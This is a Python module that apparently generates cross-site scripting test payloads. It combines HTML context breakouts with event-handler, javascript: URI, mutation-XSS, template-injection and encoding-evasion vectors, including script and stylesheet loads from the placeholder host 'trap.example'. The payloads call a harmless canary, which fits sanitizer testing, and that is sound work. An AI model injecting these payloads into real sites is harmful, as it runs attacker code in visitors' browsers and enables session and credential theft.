"""Texts that try to run in whoever's page shows them. Each calls `trap()`, or fetches from `trap.example`.

Ways out of where a text could stand, times ways to run; and what works without any way out.
"""

WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    '"/></option></select>',
    "</noscript></iframe>",
)
WAYS_TO_RUN = (
    "<script>trap()</script>",
    "<ScRiPt >trap()</sCrIpT>",
    "<script src=//trap.example/a.js></script>",
    "<img src=x onerror=trap()>",
    "<img src=x oNeRrOr='trap()'/>",
    "<svg onload=trap()>",
    "<svg/onload=trap()//",
    "<svg><script>trap()</script></svg>",
    "<svg><animate onbegin=trap() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=trap()>#x'/></svg>",
    "<body onload=trap()>",
    "<iframe src=javascript:parent.trap()></iframe>",
    "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
    "<details open ontoggle=trap()>x</details>",
    "<input autofocus onfocus=trap()>",
    "<video><source onerror=trap()></video>",
    "<audio src=x onerror=trap()>",
    "<object data=javascript:trap()></object>",
    "<math><mi xlink:href=javascript:trap()>x</mi></math>",
    "<style>@import '//trap.example/a.css';</style>",
)
ALONE = (
    "javascript:trap()",
    "JaVaScRiPt:trap()",
    "java\u00adscript:trap()",
    "data:text/html,<script>trap()</script>",
    "vbscript:trap()",
    "[a link](javascript:trap())",
    "![a picture](http://trap.example/a.png)",
    "<http://trap.example/><img src=x onerror=trap()>",
    'https://shop.example/"onmouseover="trap()',
    "https://shop.example/'onfocus='trap()'autofocus='",
    "https://shop.example/<img/src=x/onerror=trap()>",
    "https://javascript:trap()@shop.example/",
    'mailto:a@b.example"onclick="trap()',
    "mailto:a@b.example?body=<script>trap()</script>",
    "&lt;script&gt;trap()&lt;/script&gt;",
    "&#60;img src=x onerror=trap()&#62;",
    "%3Cscript%3Etrap()%3C/script%3E",
    "\\u003cscript\\u003etrap()\\u003c/script\\u003e",
    "\\x3cscript\\x3etrap()\\x3c/script\\x3e",
    "${trap()}",
    "{{trap()}}",
    "{{constructor.constructor('trap()')()}}",
    "{@html '<img src=x onerror=trap()>'}",
    "#{trap()}",
    "<%= trap() %>",
    "';trap();//",
    '";trap();//',
    "`;trap();//",
    "</script><script>trap()//",
    "' onmouseover=trap() x='",
    '" onmouseover=trap() x="',
    '" autofocus onfocus=trap() x="',
    '" style="background:url(//trap.example/a.png)"',
    "url(//trap.example/a.png)",
    "red;background:url(//trap.example/a.png)",
    "expression(trap())",
    "<a href='java&#10;script:trap()'>x</a>",
    "<a href=javas&Tab;cript:trap() autofocus>x</a>",
    "<link rel=stylesheet href=//trap.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:trap()'>",
    "<meta http-equiv=refresh content='0;url=//trap.example/'>",
    "<base href=//trap.example/>",
    "<form action=//trap.example/><button autofocus onfocus=trap()>x</button></form>",
    "<img src=//trap.example/a.png>",
    "<img srcset='//trap.example/a.png 2x'>",
    "<link rel=prefetch href=//trap.example/>",
    "<bgsound src=//trap.example/a>",
    "<table background=//trap.example/a.png><td>x</table>",
    "<portal src=//trap.example/></portal>",
    "<embed src=javascript:trap()>",
    "<x contenteditable onblur=trap()>x</x>",
    "<template><img src=x onerror=trap()></template>",
    "<noscript><p title='</noscript><img src=x onerror=trap()>'>",
    "<svg></p><style><a id='</style><img src=x onerror=trap()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=trap()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap()>",
    "<script\u2028>trap()</script>",
    "\uff1cscript\uff1etrap()\uff1c/script\uff1e",
    "\u202e<script>trap()</script>",
    "<\u200bscript>trap()</script>",
)
PAYLOADS = tuple(f"{out}{run}" for out in WAYS_OUT for run in WAYS_TO_RUN) + ALONE


def lines(limit: int) -> list[str]:
    """All payloads that can stand on one line of so many characters, as many on each as there is room for."""
    found, line = [], ""
    for payload in PAYLOADS:
        if "\u2028" in payload or len(payload) > limit:
            continue
        if len(line) + 1 + len(payload) > limit:
            found.append(line)
            line = payload
        else:
            line = f"{line} {payload}".strip()
    return [*found, line]
